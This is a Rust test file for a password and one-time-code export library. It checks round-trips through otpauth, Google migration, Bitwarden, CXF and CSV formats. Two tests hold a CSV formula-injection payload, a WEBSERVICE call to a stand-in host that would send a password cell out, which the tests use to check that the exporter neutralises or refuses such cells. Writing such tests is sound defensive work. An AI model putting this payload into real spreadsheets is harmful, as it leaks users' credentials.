//! What is written is read back as it was, or is named as left out.

#![expect(clippy::unwrap_used, reason = "a test that cannot go on should stop where it stands")]

mod round_trip;

use std::collections::BTreeMap;

use countersign_model::Algorithm;
use countersign_otp::{Digits, OtpSecret, Parameters, Period, Seed, SeedEncoding};
use countersign_seal::Secret;
use countersign_transfer::{
    Account, ExportFormat, ExportOrigin, ExportRefusal, Exported, ExportedAccount, Import, ImportLimits, write,
};

const ORIGIN: ExportOrigin<'static> =
    ExportOrigin { host: "vault.example.org", unix_seconds: 1_700_000_000, batch: 4711 };

fn exported(format: ExportFormat, accounts: &[ExportedAccount]) -> Exported {
    write(format, accounts, &ORIGIN)
}

/// A file as text.
fn text(exported: &Exported, file: usize) -> &str {
    std::str::from_utf8(&exported.files[file].bytes).unwrap()
}

/// All accounts of a file; whatever else comes of it is a mistake.
fn read_back(name: &str, bytes: &[u8]) -> Vec<Account> {
    let mut import = Import::new(ImportLimits::default());
    import.read(name, bytes, None).unwrap();
    assert!(import.left_out().is_empty(), "{:?}", import.left_out());
    assert!(import.missing().is_empty());
    import.into_items().into_iter().map(|item| item.outcome.map_err(|error| error.to_string()).unwrap()).collect()
}

fn secret(parameters: Parameters, key: &str) -> Option<OtpSecret> {
    Some(OtpSecret::new(Seed::parse(key, SeedEncoding::Base32).unwrap(), parameters))
}

fn usual() -> Option<OtpSecret> {
    secret(Parameters::default(), "JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP")
}

/// One with everything, one with a password, one with a seed, and one with nothing.
fn accounts() -> Vec<ExportedAccount> {
    let digits = Digits::new(8).unwrap();
    vec![
        ExportedAccount {
            name: "Acorn \"&\" Sons".to_owned(),
            username: "mara@acorn.example".to_owned(),
            site: Some("https://acorn.example/".to_owned()),
            notes: "=1+1 is two\r\nsecond line".to_owned(),
            tags: vec!["Work/Night".to_owned(), "Büro, EU".to_owned()],
            password: Some(Secret::from("s3cret, \"one\"".to_owned())),
            secret: usual(),
        },
        ExportedAccount {
            name: "@Birch".to_owned(),
            username: "'ops".to_owned(),
            password: Some(Secret::from("s3cret-two".to_owned())),
            ..ExportedAccount::default()
        },
        ExportedAccount {
            name: "Cedar: door".to_owned(),
            username: "door".to_owned(),
            secret: secret(
                Parameters::totp(Algorithm::Sha256, digits, Period::new(30).unwrap()),
                "KRSXG5CTMVRXEZLUKRSXG5CTMVRXEZLU",
            ),
            ..ExportedAccount::default()
        },
        ExportedAccount { name: "Dogwood".to_owned(), ..ExportedAccount::default() },
    ]
}

fn left_out(exported: &Exported) -> Vec<(&str, ExportRefusal)> {
    exported.left_out.iter().map(|left_out| (left_out.name.as_str(), left_out.reason)).collect()
}

#[test]
fn otpauth_has_a_line_for_each_seed() {
    let exported = exported(ExportFormat::Otpauth, &accounts());
    assert_eq!(
        text(&exported, 0),
        "otpauth://totp/Acorn%20%22%26%22%20Sons:mara%40acorn.example?secret=JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP\
         &issuer=Acorn%20%22%26%22%20Sons&algorithm=SHA1&digits=6&period=30\n\
         otpauth://totp/Cedar:door?secret=KRSXG5CTMVRXEZLUKRSXG5CTMVRXEZLU&issuer=Cedar&algorithm=SHA256&digits=8&period=30\n"
    );
    assert_eq!(
        left_out(&exported),
        [("@Birch", ExportRefusal::NoSetupKey(ExportFormat::Otpauth)), ("Dogwood", ExportRefusal::NothingToSignInWith),]
    );
    assert_eq!(exported.without, BTreeMap::from([("notes", 1), ("passwords", 1), ("sites", 1), ("tags", 2)]));
}

#[test]
fn google_is_a_text_and_pictures_of_the_same() {
    let exported = exported(ExportFormat::Google, &accounts());
    let names: Vec<&str> = exported.files.iter().map(|file| file.name.as_str()).collect();
    assert_eq!(names, ["countersign-google.txt", "countersign-google-1-of-1.png"]);
    // The payload byte by byte: two accounts, version 1, one part, the first of it, batch 4711.
    assert_eq!(
        text(&exported, 0),
        "otpauth-migration://offline?data=Ck8KFEhlbGxvId6tvu9IZWxsbyHerb7vEiFBY29ybiAiJiIgU29uczptYXJhQGFjb3JuLmV4YW1\
         wbGUaDkFjb3JuICImIiBTb25zIAEoATACCi8KFFRlc3RTZWNyZXRUZXN0U2VjcmV0EgpDZWRhcjpkb29yGgVDZWRhciACKAIwAhABGAEo5yQ%3D\n"
    );
    for file in &exported.files {
        let back = read_back(&file.name, &file.bytes);
        let names: Vec<&str> = back.iter().map(|account| account.name.as_str()).collect();
        assert_eq!(names, ["Acorn \"&\" Sons: mara@acorn.example", "Cedar: door"]);
    }
}

/// Computed by oathtool 2.6 for 2023-11-14 22:13:20 UTC: `oathtool --totp -b -N '2023-11-14 22:13:20 UTC' KEY`, with
/// `--totp=sha256 -d 8` for the second.
#[test]
fn tokens_of_what_was_written_are_those_of_another_program() {
    for format in ExportFormat::ALL {
        let exported = exported(format, &accounts());
        for file in &exported.files {
            let back = read_back(&file.name, &file.bytes);
            let tokens: Vec<_> =
                back.iter().filter_map(|account| account.secret.as_ref()?.token_at(1_700_000_000)).collect();
            let tokens: Vec<&str> = tokens.iter().map(|token| token.text.expose()).collect();
            assert_eq!(tokens, ["406058", "97775042"], "{format}");
        }
    }
}

#[test]
fn bitwarden_is_a_vault_of_logins() {
    let exported = exported(ExportFormat::Bitwarden, &accounts()[..2]);
    assert_eq!(text(&exported, 0), include_str!("bitwarden.json").trim_end());
    assert_eq!(exported.without, BTreeMap::from([("tags", 1)]));
}

#[test]
fn cxf_has_a_credential_for_each_secret() {
    let exported = exported(ExportFormat::Cxf, &accounts()[..2]);
    assert_eq!(text(&exported, 0), include_str!("cxf.json").trim_end());
    assert!(exported.without.is_empty());
}

#[test]
fn csv_has_a_column_for_each_field() {
    let exported = exported(ExportFormat::Csv, &accounts());
    assert_eq!(
        text(&exported, 0),
        "name,username,password,url,totp,notes,tags,format\r\n\
         \"Acorn \"\"&\"\" Sons\",\"mara@acorn.example\",\"s3cret, \"\"one\"\"\",\"https://acorn.example/\",\
         \"otpauth://totp/Acorn%20%22%26%22%20Sons:mara%40acorn.example?secret=JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP\
         &issuer=Acorn%20%22%26%22%20Sons&algorithm=SHA1&digits=6&period=30\",\"'=1+1 is two\r\nsecond line\",\
         \"Work/Night,Büro\\, EU\",\"countersign-1\"\r\n\
         \"'@Birch\",\"''ops\",\"s3cret-two\",\"\",\"\",\"\",\"\",\"countersign-1\"\r\n\
         \"Cedar: door\",\"door\",\"\",\"\",\"otpauth://totp/Cedar:door?secret=KRSXG5CTMVRXEZLUKRSXG5CTMVRXEZLU&issuer=Cedar\
         &algorithm=SHA256&digits=8&period=30\",\"\",\"\",\"countersign-1\"\r\n"
    );
    assert!(exported.without.is_empty());
}

/// No cell begins like a formula, and a password that would is neither changed nor written.
#[test]
fn no_cell_of_a_table_is_a_formula() {
    let starts = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"];
    for start in starts {
        let with = |name: &str, notes: &str, password: &str| ExportedAccount {
            name: name.to_owned(),
            notes: notes.to_owned(),
            password: Some(Secret::from(password.to_owned())),
            ..ExportedAccount::default()
        };
        let cell = format!("{start}WEBSERVICE(\"http://elsewhere.example/\"&C3)");
        let exported = exported(
            ExportFormat::Csv,
            &[with("Acorn", &cell, "one"), with("Birch", "", &cell), with("Cedar", "", &format!("a{cell}"))],
        );
        assert_eq!(left_out(&exported), [("Birch", ExportRefusal::PasswordFormula)], "{start:?}");
        let table = text(&exported, 0);
        for opened in ["\"", ",", "\n"] {
            assert!(!table.contains(&format!("{opened}{start}WEB")), "{start:?} behind {opened:?}");
        }
        assert!(table.contains(&format!("\"'{start}WEB")));
        assert_eq!(read_back("a.csv", table.as_bytes())[0].notes, cell);
        assert_eq!(left_out(&self::exported(ExportFormat::Bitwarden, &[with("Birch", "", &cell)])), []);
    }
}

/// Where a spreadsheet splits a table at semicolons or tabs, a part of a cell is a cell.
#[test]
fn no_part_of_a_cell_is_a_formula() {
    let rows = [
        ("a;=1+1", "a;'=1+1"),
        ("a\t+1", "a\t'+1"),
        ("a\r\n-b\n\n@c", "a\r\n'-b\n\n'@c"),
        ("a; \"=1\";b", "a;' \"\"=1\"\";b"),
        ("a;'b;''=c", "a;''b;'''=c"),
        ("=a;=b", "'=a;'=b"),
        ("a;b\nc = d; e-f", "a;b\nc = d; e-f"),
        ("a,=b", "a,=b"),
        ("\"=a", "\"\"=a"),
        (";", ";"),
        ("a;\u{ff1d}1", "a;'\u{ff1d}1"),
    ];
    for (cell, written) in rows {
        let account = |password: &str| ExportedAccount {
            name: "Acorn".to_owned(),
            notes: cell.to_owned(),
            site: Some("https://acorn.example/;=1".to_owned()),
            password: Some(Secret::from(password.to_owned())),
            ..ExportedAccount::default()
        };
        let exported = exported(ExportFormat::Csv, &[account("s3cret")]);
        let table = text(&exported, 0);
        assert!(table.contains(&format!(",\"{written}\",\"\",\"countersign-1\"")), "{cell:?}: {table}");
        assert!(table.contains("\"https://acorn.example/;'=1\""), "{table}");
        let back = read_back("a.csv", table.as_bytes());
        assert_eq!((back[0].notes.as_str(), back[0].site.as_deref()), (cell, Some("https://acorn.example/;=1")));
        let is_formula = !matches!(cell, "a;'b;''=c" | "a;b\nc = d; e-f" | "a,=b" | "\"=a" | ";");
        let is_refused = !self::exported(ExportFormat::Csv, &[account(cell)]).left_out.is_empty();
        assert_eq!(is_refused, is_formula, "{cell:?}");
    }
}

#[test]
fn a_table_of_ours_that_somebody_added_to_is_read_as_it_stands() {
    let text = "name,username,password,url,totp,notes,tags,format\n'=Acorn,'s,'=pw,,,'n,\"a\\,b\",countersign-1\n\
                '=Birch,'s,'=pw,,,'n,a,\n";
    let back = read_back("a.csv", text.as_bytes());
    let told: Vec<_> = back
        .iter()
        .map(|it| {
            [
                it.name.as_str(),
                &it.account,
                it.password.as_ref().unwrap().expose_text().unwrap(),
                &it.notes,
                &it.tags[0],
            ]
        })
        .collect();
    assert_eq!(told, [["=Acorn", "'s", "'=pw", "'n", "a,b"], ["'=Birch", "'s", "'=pw", "'n", "a"]]);
    let mut import = Import::new(ImportLimits::default());
    import.read("a.csv", text.replace("countersign-1", "countersign-2").as_bytes(), None).unwrap();
    let refusal = import.items()[0].outcome.as_ref().err().unwrap().to_string();
    assert!(
        refusal.starts_with("its column format, which this release does not know, is not what it should be"),
        "{refusal}"
    );
}

#[test]
fn what_a_format_cannot_hold_is_left_out_with_its_reason() {
    let eight = Digits::new(8).unwrap();
    let totp = |digits: u64, period: u64| {
        Parameters::totp(Algorithm::Sha1, Digits::new(digits).unwrap(), Period::new(period).unwrap())
    };
    use ExportFormat::{Bitwarden, Csv, Cxf, Google, Otpauth};
    use ExportRefusal::{ByCounter, Counter, Digits as OtherDigits, Period as OtherPeriod, Steam};
    let period = |seconds, format, holds| OtherPeriod { seconds, format, holds };
    let rows: [(Parameters, &[(ExportFormat, ExportRefusal)]); 7] = [
        (totp(6, 30), &[]),
        (totp(6, 60), &[(Google, period(60, Google, "30 alone"))]),
        (totp(6, 256), &[(Google, period(256, Google, "30 alone")), (Cxf, period(256, Cxf, "at most 255"))]),
        (totp(7, 30), &[(Google, OtherDigits { digits: 7, format: Google })]),
        (Parameters::STEAM, &[(Google, Steam(Google)), (Cxf, Steam(Cxf))]),
        (Parameters::hotp(Algorithm::Sha512, eight, 7), &[(Bitwarden, ByCounter(Bitwarden)), (Cxf, ByCounter(Cxf))]),
        (
            Parameters::hotp(Algorithm::Sha1, eight, 1 << 63),
            &[(Google, Counter(Google)), (Bitwarden, ByCounter(Bitwarden)), (Cxf, ByCounter(Cxf))],
        ),
    ];
    for (parameters, refusals) in rows {
        for format in [Otpauth, Google, Bitwarden, Cxf, Csv] {
            let account = ExportedAccount {
                name: "Acorn".to_owned(),
                secret: secret(parameters, "JBSWY3DPEHPK3PXP"),
                ..ExportedAccount::default()
            };
            let exported = exported(format, &[account]);
            let expected = refusals.iter().find(|(other, _)| *other == format).map(|(_, refusal)| ("Acorn", *refusal));
            assert_eq!(left_out(&exported), Vec::from_iter(expected), "{format} {parameters:?}");
            assert_eq!(exported.files.is_empty(), expected.is_some());
        }
    }
}

/// Parts of ten, in one batch, each picture read by itself.
#[test]
fn google_comes_in_as_many_pictures_as_it_takes() {
    let account = |name: String| ExportedAccount { name, secret: usual(), ..ExportedAccount::default() };
    let mut all: Vec<ExportedAccount> = (0..25).map(|number| account(format!("Site {number}"))).collect();
    // So long that ten of them take several pictures.
    all.extend((0..3).map(|number| account(format!("{number}{}", "long ".repeat(60).trim()))));
    all.push(account("x".repeat(1024)));
    let exported = exported(ExportFormat::Google, &all);
    assert_eq!(left_out(&exported), [("x".repeat(1024).as_str(), ExportRefusal::CodeTooLong)]);
    let text = exported.files[0].bytes.to_vec();
    let pictures = &exported.files[1..];
    assert_eq!(text.iter().filter(|byte| **byte == b'\n').count(), pictures.len());
    assert_eq!(pictures.first().unwrap().name, format!("countersign-google-1-of-{}.png", pictures.len()));
    assert!(pictures.iter().all(|picture| picture.media_type == "image/png"));
    let mut import = Import::new(ImportLimits::default());
    for picture in pictures.iter().rev() {
        import.read(&picture.name, &picture.bytes, None).unwrap();
    }
    assert!(import.missing().is_empty(), "{:?}", import.missing());
    assert_eq!(import.items().len(), 28);
    // The text brings nothing that was not in the pictures.
    import.read("text", &text, None).unwrap();
    assert_eq!(import.items().iter().filter(|item| item.outcome.is_ok()).count(), 28);
}

#[test]
fn each_format_has_its_word() {
    for format in ExportFormat::ALL {
        assert_eq!(format.name().parse(), Ok(format));
        assert!(format.file_name().bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-.".contains(&byte)));
    }
    assert_eq!(
        "1pux".parse::<ExportFormat>().unwrap_err().to_string(),
        "the format is none of otpauth, google, bitwarden, cxf and csv: choose one of them"
    );
}
